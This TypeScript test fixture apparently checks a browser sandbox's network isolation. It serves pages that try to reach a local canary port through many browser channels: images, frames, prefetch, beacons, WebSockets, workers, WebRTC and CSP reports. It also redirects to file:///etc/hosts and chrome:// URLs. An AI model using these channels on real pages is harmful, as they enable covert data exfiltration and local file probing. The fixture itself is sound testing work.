import type { Handler, Routes } from './page-server.js';

/** Keeps the page loading so long that what it has started has had its chance. */
const HOLD = '<img src="/slow?ms=700" alt="">';

const html = (body: string) => `<!doctype html><title>page</title>${body}${HOLD}`;
const script = (code: string) => html(`<script>${code}</script>`);

const redirect =
  (status: number, location: string): Handler =>
  (_request, response) => {
    response.writeHead(status, { location }).end();
  };

const withHeaders =
  (headers: Readonly<Record<string, string>>, body: string): Handler =>
  (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html', ...headers }).end(body);
  };

const asScript =
  (code: string): Handler =>
  (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }).end(code);
  };

/** Pages that ask for something on the canary, each by one way that browsers have. */
export function smugglingPages(canaryPort: number): Routes {
  const host = `127.0.0.1:${canaryPort}`;
  const at = (name: string) => `http://${host}/${name}`;
  const elements: Record<string, string> = {
    img: `<img src="${at('img')}">`,
    srcset: `<img srcset="${at('srcset')} 1x">`,
    script: `<script src="${at('script')}"></script>`,
    css: `<link rel="stylesheet" href="${at('css')}">`,
    'css-import': `<style>@import url("${at('css-import')}");</style>`,
    'css-image': `<div style="height:9px;background:url(${at('css-image')})"></div>`,
    font: `<style>@font-face{font-family:f;src:url(${at('font')})}</style><p style="font-family:f">text</p>`,
    iframe: `<iframe src="${at('iframe')}"></iframe>`,
    'iframe-srcdoc': `<iframe srcdoc="<img src='${at('iframe-srcdoc')}'>"></iframe>`,
    'iframe-data': `<iframe src="data:text/html,<img src='${at('iframe-data')}'>"></iframe>`,
    'iframe-redirect': '<iframe src="/redirect-302"></iframe>',
    'img-redirect': '<img src="/redirect-302">',
    object: `<object data="${at('object')}"></object>`,
    embed: `<embed src="${at('embed')}">`,
    video: `<video src="${at('video')}" preload="auto" autoplay muted></video>`,
    preload: `<link rel="preload" as="image" href="${at('preload')}">`,
    prefetch: `<link rel="prefetch" href="${at('prefetch')}">`,
    preconnect: `<link rel="preconnect" href="http://${host}">`,
    'dns-prefetch': `<link rel="dns-prefetch" href="//${host}">`,
    modulepreload: `<link rel="modulepreload" href="${at('modulepreload')}">`,
    module: `<script type="module">import "${at('module')}";</script>`,
    manifest: `<link rel="manifest" href="${at('manifest')}">`,
    icon: `<link rel="icon" href="${at('icon')}">`,
    speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation')}"],"eagerness":"immediate"}],"prerender":[{"urls":["${at('prerender')}"],"eagerness":"immediate"}]}</script>`,
    'meta-refresh': `<meta http-equiv="refresh" content="0;url=${at('meta-refresh')}">`,
    form: `<form id="f" method="post" action="${at('form')}"></form><script>f.submit()</script>`,
    svg: `<svg><image href="${at('svg')}" width="9" height="9"/></svg>`,
    ping: `<a id="a" href="#here" ping="${at('ping')}">x</a><script>a.click()</script>`,
    portal: `<frameset><frame src="${at('portal')}"></frameset>`,
  };
  const scripts: Record<string, string> = {
    fetch: `fetch("${at('fetch')}",{mode:"no-cors"})`,
    xhr: `const x=new XMLHttpRequest();x.open("GET","${at('xhr')}");x.send()`,
    websocket: `new WebSocket("ws://${host}/websocket")`,
    'websocket-secure': `new WebSocket("wss://${host}/websocket")`,
    eventsource: `new EventSource("${at('eventsource')}")`,
    beacon: `navigator.sendBeacon("${at('beacon')}","x")`,
    location: `location="${at('location')}"`,
    popup: `open("${at('popup')}")`,
    https: `fetch("https://${host}/https",{mode:"no-cors"})`,
    worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${at('worker')}",{mode:"no-cors"})'])))`,
    'worker-socket': `new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://${host}/w")'])))`,
    'shared-worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${at('shared-worker')}",{mode:"no-cors"})'])))`,
    'service-worker': 'navigator.serviceWorker?.register("/service-worker.js")',
    'dynamic-import': `import("${at('dynamic-import')}").catch(()=>0)`,
    'image-object': `new Image().src="${at('image-object')}"`,
    'keep-alive': `fetch("/page").then(()=>fetch("${at('keep-alive')}",{mode:"no-cors",keepalive:true}))`,
    unload: `addEventListener("pagehide",()=>navigator.sendBeacon("${at('unload')}","x"))`,
    'ipv6-fetch': `fetch("http://[::1]:${canaryPort}/ipv6-fetch",{mode:"no-cors"})`,
    'name-fetch': `fetch("http://localhost:${canaryPort}/name-fetch",{mode:"no-cors"})`,
    'file-fetch': 'fetch("file:///etc/hosts").catch(()=>0)',
    webrtc: `const c=new RTCPeerConnection({iceServers:[{urls:"stun:${host}"},{urls:"turn:${host}",username:"u",credential:"p"},{urls:"turn:${host}?transport=tcp",username:"u",credential:"p"}]});c.createDataChannel("d");c.createOffer().then(o=>c.setLocalDescription(o))`,
    webtransport: `try{new WebTransport("https://${host}/").ready.catch(()=>0)}catch{}`,
  };
  return {
    ...Object.fromEntries(Object.entries(elements).map(([name, body]) => [`/${name}`, html(body)])),
    ...Object.fromEntries(Object.entries(scripts).map(([name, code]) => [`/${name}`, script(code)])),
    ...Object.fromEntries(
      [301, 302, 303, 307, 308].map((status) => [`/redirect-${status}`, redirect(status, at('redirect'))]),
    ),
    '/redirect-chain': redirect(302, '/redirect-302'),
    '/redirect-https': redirect(302, `https://${host}/`),
    '/redirect-file': redirect(302, 'file:///etc/hosts'),
    '/redirect-data': redirect(302, 'data:text/html,leak'),
    '/redirect-chrome': redirect(302, 'chrome://version'),
    '/redirect-view-source': redirect(302, `view-source:${at('view-source')}`),
    '/redirect-ftp': redirect(302, `ftp://${host}/`),
    '/link-header': withHeaders({ link: `<${at('link-header')}>; rel=preload; as=image` }, html('')),
    '/refresh-header': withHeaders({ refresh: `0;url=${at('refresh-header')}` }, html('')),
    '/csp-report': withHeaders(
      { 'content-security-policy': `img-src 'none'; report-uri ${at('csp-report')}` },
      html('<img src="/page">'),
    ),
    '/csp-report-to': withHeaders(
      {
        'reporting-endpoints': `main="${at('csp-report-to')}"`,
        'content-security-policy': `img-src 'none'; report-to main`,
      },
      html('<img src="/page">'),
    ),
    '/location-file': script('location="file:///etc/hosts"'),
    '/location-view-source': script(`location="view-source:${at('view-source')}"`),
    '/iframe-file': html('<iframe src="file:///etc/hosts"></iframe>'),
    '/service-worker.js': asScript(
      `addEventListener("install",(event)=>event.waitUntil(fetch("${at('service-worker')}",{mode:"no-cors"}).catch(()=>0)))`,
    ),
    '/page': html('<p>here</p>'),
  };
}
